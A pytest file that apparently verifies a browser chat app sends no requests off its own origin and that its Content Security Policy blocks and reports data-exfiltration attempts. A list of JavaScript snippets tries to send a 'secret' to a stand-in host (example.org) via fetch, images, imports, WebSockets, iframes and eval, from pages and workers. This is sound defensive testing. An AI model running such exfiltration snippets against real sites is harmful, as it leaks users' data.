"""The promise that nothing leaves: what a whole conversation asks for, seen by Playwright and by
the browser's own network log, and what happens to code that tries to get out."""

import json
import re
import time

import pytest

from onglet_build import browser as browsers
from onglet_build.driver import App

pytestmark = pytest.mark.service_worker

FORBIDDEN = "https://example.org/collect?secret=1"
# In a turn of its own: what DevTools evaluates directly may evaluate strings.
EVAL = """() => new Promise(resolve => setTimeout(() => {
  try { resolve(eval('"sent"')) } catch { resolve('blocked') }
}, 0))"""


def test_a_conversation_asks_nobody_else(app_page, watch, server):
    before = len(server.log)
    app_page.page.reload()
    app_page.wait_live().wait_model()
    app_page.ask("What is the capital of France?")
    app_page.ask("And what is two plus two?")
    app_page.page.locator("[data-key=silence]").click()
    app_page.expect("silence.none")
    assert watch.requests > 10
    assert watch.off_origin == []
    assert app_page.page.evaluate("() => policyViolations") == []
    assert app_page.window()["ledger"]["off_origin_requests"] == 0
    answered = [status for method, _, status in server.log[before:] if method == "GET"]
    assert set(answered) <= {200, 206}


def test_the_browsers_own_log_names_no_other_host(playwright, server, tmp_path):
    """Independent of Playwright: Chromium writes down every request of every worker."""
    log = tmp_path / "net.json"
    running = browsers.launch_chromium(playwright, f"--log-net-log={log}")
    App(running.new_page(), server.url).open().wait_live().ask("What is the capital of France?")
    running.close()
    assert hosts_asked_for_pages(json.loads(log.read_text()), server.origin) == {"127.0.0.1"}


def hosts_asked_for_pages(log: dict, origin: str) -> set[str]:
    """Hosts of all requests that a page of `origin` or one of its workers started."""
    hosts = set()
    for event in log["events"]:
        parameters = event.get("params", {})
        url, initiator = parameters.get("url", ""), parameters.get("initiator", "")
        if initiator.rstrip("/") == origin and (found := re.match(r"\w+://([^/:]+)", url)):
            hosts.add(found[1])
    return hosts


FORBIDDEN_ACTS = [  # what the policy says of it, and the act
    ("connect-src", "() => fetch(FORBIDDEN).then(() => 'sent', () => 'blocked')"),
    (
        "img-src",
        "() => { const image = new Image(); image.src = FORBIDDEN; return image.decode()"
        ".then(() => 'sent', () => 'blocked') }",
    ),
    ("script-src-elem", "() => import(FORBIDDEN).then(() => 'sent', () => 'blocked')"),
    (
        "connect-src",
        "() => { try { new WebSocket('wss://example.org/'); return 'said by an event' }"
        " catch { return 'blocked' } }",
    ),
    ("script-src", EVAL),
    (
        "frame-src",
        "() => { const frame = document.createElement('iframe'); frame.src = FORBIDDEN;"
        " document.body.append(frame); return 'blocked' }",
    ),
]


def test_forbidden_acts_violate_the_policy_in_page_and_workers(open_app, server, watch):
    """The other half of '0 violations': the policy is there, and violations are seen."""
    app = open_app(server).wait_live()
    page = app.page
    watch.provoked = True
    for directive, act in FORBIDDEN_ACTS:
        page.evaluate("() => { policyViolations.length = 0 }")
        said = page.evaluate(act.replace("FORBIDDEN", json.dumps(FORBIDDEN)))
        assert said in ("blocked", "said by an event"), act
        seen = "name => policyViolations.some(told => told.startsWith(`${name} blocked`))"
        page.wait_for_function(seen, arg=directive)
    assert page.evaluate("() => typeof RTCPeerConnection") == "undefined"  # no policy closes it
    wait_for_reports(server, len(FORBIDDEN_ACTS))
    server.posted.clear()
    for name in ("app/worker.js", "engine/worker.js"):
        worker = next(worker for worker in app.page.workers if worker.url.endswith(name))
        act = f"() => fetch({json.dumps(FORBIDDEN)}).then(() => 'sent', () => 'blocked')"
        assert worker.evaluate(act) == "blocked"
        assert worker.evaluate(EVAL) == "blocked"
    reports = wait_for_reports(server, 4)
    assert all(report["disposition"] == "report" for report in reports)
    assert not [path for _, path, _ in server.log if "secret" in path]


def wait_for_reports(server, count: int) -> list[dict]:
    """The policy violations that the browser told the server of, once there are `count`."""
    deadline = time.monotonic() + 10
    while len(server.posted) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(server.posted) >= count
    return [json.loads(body)["csp-report"] for _, body in server.posted]
